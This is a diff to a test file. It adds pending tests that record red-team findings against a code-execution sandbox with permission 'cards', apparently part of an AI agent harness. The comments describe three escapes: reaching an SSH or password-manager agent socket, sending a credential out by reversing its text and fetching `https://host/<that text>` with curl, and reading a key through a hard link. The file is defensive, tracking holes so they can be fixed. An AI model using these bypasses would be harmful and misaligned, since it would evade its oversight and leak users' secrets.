@@ -130,3 +130,23 @@ print(children)"`;
     expect(Number(result.stdout)).toBeLessThan(64);
   });
 });
+
+describe('open after red team 2 (docs/notes/2026-11-26-s5/redteam2.md)', () => {
+  // Seen in a real run: node -e connected to a listening ~/.1password/agent.sock and got its
+  // answer. Only the known places (/run, XDG_RUNTIME_DIR, the container engines' dirs) are
+  // hidden; a socket elsewhere in the home connects through the read-only bind. The class fix is
+  // a seccomp filter (bwrap --seccomp) refusing socket(AF_UNIX) to uncarded calls.
+  it.todo(
+    'read-only code reaches no unix socket anywhere in the home (an ssh agent, an editor or a terminal server)',
+  );
+  // Seen in real runs: read-only code prints ~/notes/keys.txt reversed (no output check can know
+  // it), and `curl -fsSL https://host/<that text>` then runs without a card (fetch tier). Every
+  // file readable without a card can be sent out this way; the content check only holds plain,
+  // base64 and hex forms.
+  it.todo(
+    'a credential under an ordinary name cannot leave through read-only code that transforms it and a fetch',
+  );
+  // The path check knows a hard link to a store file (hardLinkProtection); the sandbox masks
+  // only names, so code that opens the other name reads the key.
+  it.todo('read-only code cannot read a store file through a hard link elsewhere in the home');
+});
